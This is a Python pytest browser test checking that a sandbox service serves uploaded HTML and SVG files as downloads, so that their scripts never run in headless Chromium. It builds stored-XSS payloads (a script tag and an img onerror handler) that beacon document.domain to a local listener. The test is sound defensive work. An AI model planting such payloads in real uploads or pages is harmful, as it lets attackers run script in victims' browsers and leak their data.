"""Real Chromium opens signed links to hostile uploads: nothing runs in the sandbox's origin.

An account uploads an HTML page and an SVG whose scripts would call a beacon server; a
victim opens the signed links in headless Chromium. The HTML arrives as a download (the
page never loads, no script runs), the SVG too, and an audio file still plays in place.
"""

from __future__ import annotations

import http.server
import threading
from collections.abc import Iterator

import httpx
import pytest
from tests.browser._chromium import CHROMIUM, CHROMIUM_ARGS
from tests.sandbox._util import client, signed_url, tone, upload

pytestmark = pytest.mark.browser


@pytest.fixture
def beacon() -> Iterator[tuple[str, list[str]]]:
    hits: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            hits.append(self.path)
            self.send_response(204)
            self.end_headers()

        def log_message(self, *args: object) -> None:
            pass

    srv = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=srv.serve_forever, args=(0.01,), daemon=True).start()
    try:
        yield f"http://127.0.0.1:{srv.server_port}", hits
    finally:
        srv.shutdown()
        srv.server_close()


def test_chromium_downloads_hostile_uploads_and_runs_none(sandbox, new_account, beacon) -> None:
    if not CHROMIUM.exists():
        pytest.skip("browser test: /usr/bin/chromium is absent (make browser-deps installs it)")
    pytest.importorskip("playwright.sync_api", reason="browser test: playwright is not installed")
    from playwright.sync_api import Error as PlaywrightError
    from playwright.sync_api import sync_playwright

    base, hits = beacon
    script = f"new Image().src='{base}/ran?'+document.domain"
    html = f'<html><body><script>{script}</script><img src=x onerror="{script}"></body></html>'
    svg = f"<svg xmlns='http://www.w3.org/2000/svg'><script>{script}</script></svg>"
    with client(sandbox, new_account().api_key) as c:
        links = {
            "html": signed_url(c, upload(c, html.encode(), name="page.html", mime="text/html")),
            "svg": signed_url(c, upload(c, svg.encode(), name="pic.svg", mime="image/svg+xml")),
            "mp3": signed_url(c, upload(c, tone(1.0), name="a.mp3", mime="audio/mpeg")),
        }
    assert httpx.get(f"{base}/check").status_code == 204 and hits == ["/check"]
    hits.clear()
    with sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
        try:
            context = browser.new_context(accept_downloads=True)
            page = context.new_page()
            for kind in ("html", "svg"):
                with page.expect_download() as got:
                    try:
                        page.goto(links[kind])
                    except PlaywrightError as exc:  # navigation turned into a download
                        assert "Download is starting" in str(exc)
                download = got.value
                assert download.suggested_filename == ("page.html" if kind == "html" else "pic.svg")
            page.wait_for_timeout(500)  # time for a script, had one run
            # the audio file plays in place, in an <audio> of a page on the sandbox's origin
            page.goto(f"{sandbox.base_url}/health")
            played = page.evaluate(
                """async (src) => {
                    const a = new Audio(src);
                    a.muted = true;
                    await a.play();
                    await new Promise(r => setTimeout(r, 300));
                    return {t: a.currentTime, d: a.duration};
                }""",
                links["mp3"],
            )
            assert played["t"] > 0 and played["d"] > 0.5, played
        finally:
            browser.close()
    assert hits == []
